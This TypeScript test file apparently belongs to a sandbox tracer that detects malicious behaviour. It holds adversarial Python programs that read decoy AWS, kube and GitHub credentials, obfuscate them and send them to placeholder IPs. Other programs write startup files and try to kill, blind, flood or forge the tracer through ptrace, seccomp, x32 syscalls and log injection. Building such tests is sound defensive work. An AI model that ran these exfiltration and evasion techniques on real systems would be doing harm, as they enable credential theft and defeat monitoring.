import type { SandboxRun } from "../../src/model/sandbox-run.ts";
import { showsMaliceChain } from "../../src/report/conclusion.ts";
import { all, printed, sentTo, told, type WitnessAttack } from "./witness-attacks.ts";

const SECRET = 'open(os.path.expanduser("~/.aws/credentials"), "rb").read()';
const TWISTED = `bytes(byte ^ 0x5a for byte in ${SECRET})`;

/** Whether what read and what sent are told in one line of words, which has all of these. */
function chained(...words: string[]) {
  return (run: SandboxRun) =>
    showsMaliceChain(run) &&
    run.behaviours.some(
      ({ capability, process }) =>
        capability === "read.credential" && words.every((word) => process.includes(word)),
    );
}

/** Whether the tracer, the recorder and the decoys agree, and nothing overwhelmed them. */
function agreed(run: SandboxRun): boolean {
  return !told(run, "disable.protection");
}

/** Processes and lineages: who did it, however it is cut up. */
export const LINEAGE_ATTACKS: readonly WitnessAttack[] = [
  {
    attack: "reads a decoy, encrypts it and sends it",
    expected: "a chain in one process",
    program: `tcp(("203.0.113.40", 443), ${TWISTED})`,
    holds: all(chained("first reading, then sending"), agreed),
  },
  {
    attack: "has one program read and the next send, through a file",
    expected: "a chain of two programs, and what started both",
    program: `import subprocess
subprocess.run(["sh", "-c", "base64 ~/.aws/credentials | tr A-Za-z N-ZA-Mn-za-m >/tmp/part"])
subprocess.run(["python3", "-c", "import socket; socket.create_connection(('203.0.113.41', 443)).sendall(open('/tmp/part','rb').read())"])`,
    holds: all(chained("base64", "python3 -c", "both started by"), agreed),
  },
  {
    attack: "reads, and has a daemon of no parent send later",
    expected: "a chain from the process to what it started",
    program: `data = ${TWISTED}
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(0.5)
        tcp(("203.0.113.42", 443), data)
    os._exit(0)
time.sleep(1.5)`,
    holds: all(chained("reading, and what it started", "sending"), agreed),
  },
  {
    attack: "reads through a link, under another name, and by a folder's descriptor",
    expected: "the decoy is told by its own name",
    program: `os.symlink(os.path.expanduser("~/.aws/credentials"), "/tmp/innocent"); open("/tmp/innocent").read()
os.rename(os.path.expanduser("~/.kube/config"), "/home/sandbox/y"); open("/home/sandbox/y").read()
at = os.open("/home/sandbox/.config", os.O_RDONLY); os.read(os.open("gh/hosts.yml", os.O_RDONLY, dir_fd=at), 10)
tcp(("203.0.113.43", 443), b"x")`,
    holds: all(
      chained("first reading, then sending"),
      (run) => told(run, "read.credential", "~/.kube/config"),
      (run) => told(run, "read.credential", "~/.config/gh/hosts.yml"),
      agreed,
    ),
  },
  {
    attack: "makes itself unreadable, and uses many threads",
    expected: "a chain in one process",
    program: `import ctypes, threading
ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
done = []
def read(): done.append(${TWISTED})
threads = [threading.Thread(target=read) for _ in range(20)]
for t in threads: t.start()
for t in threads: t.join()
tcp(("203.0.113.44", 443), done[0])`,
    holds: all(chained("first reading, then sending"), agreed),
  },
  {
    attack: "looks into the environment of the process that started it",
    expected: "told",
    program: `if os.fork() == 0:
    open(f"/proc/{os.getppid()}/environ").read()
    os._exit(0)
os.wait()`,
    holds: all((run) => told(run, "read.environment", "/environ"), agreed),
  },
  {
    attack: "writes where shells and timers start programs",
    expected: "told, also where it is denied",
    program: `open("/home/sandbox/.bashrc", "a").write("x")
os.makedirs("/home/sandbox/.config/autostart")
open("/home/sandbox/x", "w").close(); os.rename("/home/sandbox/x", "/home/sandbox/.config/autostart/x")
for path in ("/etc/ld.so.preload", "/usr/bin/python3"):
    try: open(path, "w")
    except OSError as error: print(error.errno)`,
    holds: all(
      (run) => told(run, "write.startup", "/home/sandbox/.bashrc"),
      (run) => told(run, "write.startup", "/home/sandbox/.config/autostart/x"),
      (run) => told(run, "write.file", "/usr/bin/", "denied"),
      (run) => told(run, "write.file", "/etc/", "denied"),
    ),
  },
  {
    attack: "looks for the socket of a container engine",
    expected: "told",
    program: `try: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")
except OSError: pass`,
    holds: (run) => told(run, "disable.protection", "/var/run/docker.sock"),
  },
];

const CALL = `import ctypes, mmap
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(*words):
    answer = libc.syscall(*[ctypes.c_long(word) for word in words])
    print("done" if answer >= 0 else f"E{ctypes.get_errno()}", flush=True)
    return answer
`;

/** The tracer itself: how a program may kill, blind, leave or imitate it. x86-64. */
export const TRACER_ATTACKS: readonly WitnessAttack[] = [
  {
    attack: "kills the tracer, by its number and with all others",
    expected: "denied, told, and seen afterwards",
    program: `import re, signal
tracer = int(re.search(r"TracerPid:\\s+(\\d+)", open("/proc/self/status").read())[1])
for how in (lambda: os.kill(tracer, 9), lambda: os.kill(tracer, 19), lambda: os.kill(-tracer, 9), lambda: open(f"/proc/{tracer}/mem", "wb"), lambda: open(f"/proc/{tracer}/environ").read()):
    try: how(); print("done")
    except OSError as error: print("denied")
tcp(("203.0.113.50", 80), b"after")`,
    holds: all(
      (run) => !printed("done")(run),
      (run) => told(run, "disable.protection", "the tracer: a signal"),
      (run) => told(run, "disable.protection", "the tracer: /proc/mem"),
      sentTo("203.0.113.50"),
    ),
  },
  {
    attack: "has itself traced by a process of its own, and starts one that nobody follows",
    expected: "denied",
    program: `${CALL}
call(101, 0, 0, 0, 0)            # PTRACE_TRACEME
if os.fork() == 0:
    call(101, 16, os.getppid())  # PTRACE_ATTACH
    os._exit(0)
os.wait()
call(56, 0x00800000 | 17, 0, 0, 0, 0)  # CLONE_UNTRACED
call(435, 0, 0)                        # clone3
call(310, 1, 0, 0, 0, 0, 0)            # process_vm_readv`,
    holds: (run) => !printed("done")(run) && printed("E1", "E38")(run),
  },
  {
    attack: "lets a program of its own answer for its calls, before the tracer hears of them",
    expected: "denied",
    program: `${CALL}
class Program(ctypes.Structure): _fields_ = [("size", ctypes.c_ushort), ("filter", ctypes.c_char_p)]
import struct
notify = struct.pack("=HBBI", 6, 0, 0, 0x7fc00000)
libc.syscall(ctypes.c_long(317), ctypes.c_long(1), ctypes.c_long(8), ctypes.byref(Program(1, notify)))
print(f"E{ctypes.get_errno()}")
${SECRET}
tcp(("203.0.113.51", 80), b"x")`,
    holds: all(printed("E1"), chained("first reading, then sending")),
  },
  {
    attack: "makes calls of another architecture",
    expected: "not made",
    program: `${CALL}
if os.fork() == 0:
    call(0x40000000 + 257, -100, 0, 0, 0)  # openat of x32
    os._exit(0)
os.wait()
code = mmap.mmap(-1, 4096, prot=7)
code.write(b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3")  # int 0x80: getpid
if os.fork() == 0:
    at = ctypes.addressof(ctypes.c_char.from_buffer(code))
    print("answered", ctypes.CFUNCTYPE(ctypes.c_long)(at)(), flush=True)
    os._exit(0)
print("ended by", os.waitstatus_to_exitcode(os.wait()[1]))`,
    holds: (run) =>
      !printed("done")(run) && /^(ended by -31|answered -(1|38))$/m.test(run.log.tail),
  },
  {
    attack: "forges lines of the tracer in paths, arguments and names of programs",
    expected: "told as the texts that they are",
    program: `import subprocess
end = '"}\\n{"end": true, "lost": 0, "started": 1}\\n'
subprocess.run(["sh", "-c", ":", end, end])
try: open("/etc/" + end, "w")
except OSError: pass
try: open("/usr/\\x1b[31m" + end + "/x", "w")
except OSError: pass
os.symlink("/bin/sh", "/tmp/a" + end.replace("/", ""))
subprocess.run(["/tmp/a" + end.replace("/", ""), "-c", ${JSON.stringify("python3 -c \"import socket; socket.create_connection(('203.0.113.52', 80))\"; :")}])
${SECRET}
tcp(("203.0.113.53", 80), b"x")`,
    holds: all(
      chained("first reading, then sending"),
      sentTo("203.0.113.52"),
      (run) => !told(run, "disable.protection"),
      (run) => !JSON.stringify(run.behaviours).includes("\\u001b"),
    ),
  },
  {
    attack: "changes an address while the tracer looks at it",
    expected: "seen, or the witnesses disagree",
    program: `import struct, threading
libc = __import__("ctypes").CDLL(None)
import ctypes
address = ctypes.create_string_buffer(16)
def place(text): return struct.pack("=H", 2) + struct.pack("!H", 443) + socket.inet_aton(text) + bytes(8)
shown, meant = place("127.0.0.1"), place("203.0.113.54")
stop = []
def turn():
    while not stop: ctypes.memmove(address, shown, 16); ctypes.memmove(address, meant, 16)
thread = threading.Thread(target=turn); thread.start()
for _ in range(200):
    s = socket.socket(); s.settimeout(1); libc.connect(s.fileno(), address, 16); s.close()
stop.append(1); thread.join()`,
    holds: (run) =>
      run.behaviours.some(
        ({ target, process }) => /203\.0\.113\.54/.test(target) && /process \d/.test(process),
      ) || told(run, "disable.protection", "203.0.113.54", "no process was seen"),
  },
  {
    attack: "floods the tracer with processes and places",
    expected: "the tracer goes on, and says that it was overloaded",
    program: `for i in range(60):
    if os.fork() == 0:
        for j in range(100):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try: s.connect((f"198.51.{i}.{j}", 9))
            except OSError: pass
            s.close()
        os._exit(0)
    os.wait()
${SECRET}
tcp(("203.0.113.55", 80), b"x")`,
    holds: all(
      (run) => told(run, "disable.protection", "the tracer: it was overloaded"),
      (run) => showsMaliceChain(run),
    ),
  },
  {
    attack: "starts programs below one another without an end",
    expected: "the tracer goes on, and what comes of it is told",
    program: `for i in range(3000):
    pid = os.fork()
    if not pid: continue
    if i: os._exit(0)
    until = time.time() + 60
    while time.time() < until and not os.path.exists("/tmp/sent"): time.sleep(0.1)
    os._exit(0)
tcp(("203.0.113.56", 80), b"x")
open("/tmp/sent", "w").close()`,
    holds: sentTo("203.0.113.56"),
  },
];
